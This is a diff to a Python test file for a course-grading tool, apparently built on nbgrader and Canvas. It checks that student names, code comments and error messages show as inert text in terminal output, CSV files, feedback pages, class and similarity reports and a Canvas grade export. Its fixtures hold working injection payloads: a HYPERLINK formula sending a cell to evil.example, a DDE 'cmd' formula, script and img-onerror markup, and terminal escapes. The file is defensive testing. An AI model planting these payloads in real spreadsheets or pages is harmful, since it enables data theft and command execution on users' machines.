@@ -1,16 +1,20 @@
-"""Student-controlled text is data at every exit we write: the terminal, grades.csv, the class report.
+"""Student-controlled text is data at every exit we write: the terminal, grades.csv, the pages of
+the feedback, the formgrader, the class report and the similarity report, the grades sent back to
+the LMS.
 
 Names and ids come from the roster and the LMS download, messages and values from the students'
 code. Each test sends hostile text through the real commands (`python -m grading.intake`,
-`python -m grading.autograde`, `nbgrader export`, `python -m grading.report`) and checks what
-the instructor gets: no control byte printed, every CSV row and column intact and formula-free,
-the report always written, the honest students graded and shown correctly.
+`python -m grading.autograde`, `nbgrader export`, `python -m grading.report`,
+`python -m grading.lms_export`) and checks what the instructor gets: no control byte printed,
+every CSV row and column intact and formula-free, no script run in a page, the report always
+written, the honest students graded and shown correctly.
 """
 import contextlib
 import csv
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 import urllib.error
@@ -26,6 +30,7 @@ from grading import course, synthetic
 from grading.build_reference import NOTEBOOKS
 from grading.demo import CRASH
 from grading.provided import ASSIGNMENT
+from grading.roster import STUDENT_ID
 from grading.untrusted_text import for_page, for_plot, for_spreadsheet, for_terminal
 
 from browser_support import CHROMIUM, CHROMIUM_ARGS, LOOPBACK, JupyterLab
@@ -36,18 +41,24 @@ ESC = "\x1b"
 # What a terminal would act on: C0 controls but the newline, DEL, C1 controls, bidi overrides.
 CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")
 
+# alan's id is the longest the roster accepts (roster.STUDENT_ID): an id that passed intake must
+# be graded like any other, not fail halfway (a path, a socket name or a column too short for it).
+ALAN = ("alan.turing." * 6)[:64]   # 64 characters
 # The roster as an LMS exports it (quoted as CSV requires): hostile names, plain ids.
 ROSTER = [
     ["id", "first_name", "last_name", "email", "lms_id"],
     ["ada", '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "Lovelace,\nmallory,100", "ada@example.org", "12345"],
     ["grace", f"Grace{ESC}[2K\nmallory  100", '"Hopper"', "@SUM(A1:A9)", "23456"],
-    ["alan", "Alan<img src=x onerror=\"window.pwned = 'roster name'\">", "<b>Turing</b>", "", "34567"],
+    [ALAN, "Alan<img src=x onerror=\"window.pwned = 'roster name'\">", "<b>Turing</b>", "", "34567"],
 ]
-HONEST = {"ada": 100, "grace": 100, "alan": 0}   # alan hands in the blank release
+HONEST = {"ada": 100, "grace": 100, ALAN: 0}   # alan hands in the blank release
 # ... whose gradient_check raises a message of markup, which his diagnosis quotes.
 RAISES_MARKUP = ("def gradient_check(x, theta, epsilon=1e-7, print_msg=False):\n"
                  "    raise ValueError(\"<img src=x onerror=\\\"window.pwned = 'diagnosis'\\\">"
                  "<script>window.pwned = 'diagnosis script'</script>\")\n")
+# A comment in grace's answer: her answer and ada's are alike, so the similarity page quotes it.
+HOSTILE_COMMENT = ("# </pre></td></tr></table><script>window.pwned = 'similarity script'</script>"
+                   "<img src=x onerror=\"window.pwned = 'similarity onerror'\">")
 
 
 HOSTILE_MARKDOWN = ("My notes <script>window.pwned = 'markdown script'</script>\n\n"
@@ -110,18 +121,21 @@ def run(*command, cwd=None):
 
 @pytest.fixture(scope="module")
 def graded(new_course, tmp_path_factory):
-    """A class taken in through intake with hostile names and notebook content, then graded by the
-    real commands."""
+    """A class taken in through intake with hostile names and notebook content, and alan's id as
+    long as ids go, then graded by the real commands."""
     folder = tmp_path_factory.mktemp("student_text")
     root = new_course("student_text")
     roster = folder / "roster.csv"
     with open(roster, "w", newline="") as handle:
         csv.writer(handle).writerows(ROSTER)
+    assert len(ALAN) == 64 and not STUDENT_ID.fullmatch(ALAN + "x"), "the longest id intake accepts"
     solved, blank = synthetic.submission(), synthetic.submission({"gradient_check": RAISES_MARKUP}, complete=False)
+    commented = synthetic.solutions()["gradient_check"] + "\n" + HOSTILE_COMMENT
+    graces = with_hostile_cells(synthetic.submission({"gradient_check": commented})[NB1], plant_config(folder))
     members = {
         "lovelaceada_12345_678901_1_gradient_checking_1d.ipynb": solved[NB1],
         "lovelaceada_12345_678901_2_gradient_checking_nd.ipynb": solved[NB2],
-        "hoppergrace_23456_678902_1_gradient_checking_1d.ipynb": with_hostile_cells(solved[NB1], plant_config(folder)),
+        "hoppergrace_23456_678902_1_gradient_checking_1d.ipynb": graces,
         "hoppergrace_23456_678902_2_gradient_checking_nd.ipynb": solved[NB2],
         "turingalan_34567_678903_1_gradient_checking_1d.ipynb": blank[NB1],
         "turingalan_34567_678903_2_gradient_checking_nd.ipynb": blank[NB2],
@@ -223,7 +237,7 @@ def test_no_script_a_student_wrote_runs_in_their_feedback_page(graded):
         assert float(score) == float(out_of) > 0, "grace's notebook keeps its full score"
 
         # alan's diagnosis quotes the markup his code raised: shown, not run
-        alans = root / "feedback" / "alan" / ASSIGNMENT / NB1.replace(".ipynb", ".html")
+        alans = root / "feedback" / ALAN / ASSIGNMENT / NB1.replace(".ipynb", ".html")
         page.goto(alans.as_uri())
         page.wait_for_load_state("load")
         page.wait_for_timeout(500)
@@ -256,7 +270,7 @@ def test_no_script_a_student_wrote_runs_in_the_formgrader(graded, tmp_path):
         pages = ["manage_students", f"manage_students/grace/{ASSIGNMENT}",
                  "manage_submissions/" + urllib.parse.quote(reflected),
                  *(f"submissions/{s['id']}/" for s in graces),
-                 *(f"submissions/{s['id']}/" for s in submissions("alan"))]   # his diagnosis quotes markup
+                 *(f"submissions/{s['id']}/" for s in submissions(ALAN))]   # his diagnosis quotes markup
         with chromium_page() as (page, dialogs):
             shown = {}
             for path in pages:
@@ -290,6 +304,94 @@ def test_no_script_a_student_wrote_runs_in_the_formgrader(graded, tmp_path):
         lab.stop()
     assert not (folder / CANARY).exists(), "the formgrader ran a student's configuration"
     assert (root / "nbgrader_config.py").read_bytes() == config
+
+
+def test_no_script_a_student_wrote_runs_in_the_class_report_or_the_similarity_page(graded):
+    """The class report and the similarity page that `make autograde` wrote, opened in Chromium:
+    the roster names with markup, alan's diagnosis (quoting the markup his code raised) and grace's
+    answer (a comment that closes the page's tags and opens a script) run nothing, open nothing and
+    load nothing. They show as the text they are, with every student's total."""
+    root, _, _, _ = graded
+    reports = root / "reports"
+    report, similar = reports / "class_report.html", reports / "similarity.html"
+    # All the pages may load: themselves and the report's plots. A name's <img src=x>, were it
+    # markup, would ask for reports/x.
+    allowed = {report.as_uri(), similar.as_uri(), *(p.as_uri() for p in reports.glob("*.png"))}
+    with chromium_page() as (page, dialogs):
+        requested = []
+        page.on("request", lambda request: requested.append(request.url))
+
+        def shown(path):
+            page.goto(path.as_uri())
+            page.wait_for_load_state("load")
+            page.wait_for_timeout(500)   # an onerror handler runs once its image has failed
+            assert page.evaluate("() => window.pwned") is None, path.name
+            assert page.url == path.as_uri(), f"{path.name} led to {page.url}"
+            return page.inner_text("body")
+
+        text = shown(report)
+        # The last table: every student, their name, scores, total and main reason.
+        table = page.evaluate("() => [...[...document.querySelectorAll('table')].at(-1).rows]"
+                              ".map(row => [...row.cells].map(cell => cell.innerText))")
+        header, rows = table[0], {row[0]: row for row in table[1:]}
+        assert {s: float(row[header.index("total")]) for s, row in rows.items()} == HONEST
+        for student, first, last, *_ in ROSTER[1:]:   # as "Last, First"; the page folds line breaks
+            assert rows[student][1].split() == f"{last}, {first}".split(), student
+        assert "gradient_check raised ValueError: <img src=x onerror=" in text
+        assert "<script>window.pwned = 'diagnosis script'</script>" in text
+
+        text = shown(similar)
+        assert "1. ada and grace: 100%" in text
+        assert HOSTILE_COMMENT in text, "grace's comment, as text"
+    assert dialogs == []
+    assert set(requested) <= allowed, set(requested) - allowed
+
+
+# The class's roster as Canvas's gradebook export, the file the grades go back to Canvas in (its SIS
+# Login IDs are the class's ids): names and other cells hold commas, quotes, line breaks, formulas.
+CANVAS_EXPORT = [
+    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Gradient checking (4242)", "Notes"],
+    ["    Points Possible", "", "", "", "", "100.00", ""],
+    ['=HYPERLINK("http://evil.example/?"&A1,"Lovelace"), Ada\nmallory,100', "12345", "S001", "ada", "+GC 101", "",
+     '-2+3+cmd|" /C calc"!A0'],
+    ['"Hopper", Grace\r\n=1+1', "23456", "S002", "grace", "@SUM(A1:A9)", "", "\uff1dSUM(A1)"],
+    ["Turing, Alan", "34567", "S003", ALAN, "-", "", "\tcmd"],
+]
+FORMULA_START = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
+
+
+def starts_a_formula(cell):
+    """What a spreadsheet or an LMS import would run: a cell starting with =, +, -, @ (or their
+    full-width forms), a tab or a line break; a bare dash ("no value") aside."""
+    return bool(FORMULA_START.match(cell)) and bool(cell.strip("-+ "))
+
+
+def test_make_export_keeps_every_row_and_column_and_runs_no_formula(graded, tmp_path):
+    """`python -m grading.lms_export` on a copy of the graded class taken in again, the same
+    notebooks with the class's Canvas export as the roster: canvas_grades.csv is Canvas's file, every
+    row and column intact, no cell a formula, each student's grade in the assignment's column.
+    (With the course's own roster the export writes ids, LMS ids and scores: no name.)"""
+    root, _, _, folder = graded
+    course = Path(shutil.copytree(root, tmp_path / "course", symlinks=True))   # the class stays as graded
+    roster = tmp_path / "canvas_export.csv"
+    with open(roster, "w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(CANVAS_EXPORT)
+    taken = run(sys.executable, "-m", "grading.intake", str(folder / "submissions.zip"), "--roster", str(roster),
+                "--root", str(course))
+    assert taken.returncode == 0, taken.stdout + taken.stderr
+    done = run(sys.executable, "-m", "grading.lms_export", "--root", str(course),
+               "--column", "Gradient checking (4242)")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert printed_controls(done.stdout + done.stderr) == []
+
+    with open(course / "exports" / "canvas_grades.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == len(CANVAS_EXPORT) and all(len(row) == len(CANVAS_EXPORT[0]) for row in rows)
+    assert rows[0] == CANVAS_EXPORT[0], "Canvas's own header"
+    assert [row[5] for row in rows[1:]] == ["100.00", "100.00", "100.00", "0.00"]   # Points Possible, ada, grace, alan
+    for row, sent in zip(rows, CANVAS_EXPORT):   # every other cell as sent, a ' before a formula
+        assert row[:5] + row[6:] == [("'" + cell if starts_a_formula(cell) else cell) for cell in sent[:5] + sent[6:]]
+    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
 
 
 @pytest.mark.parametrize("text, shown", [
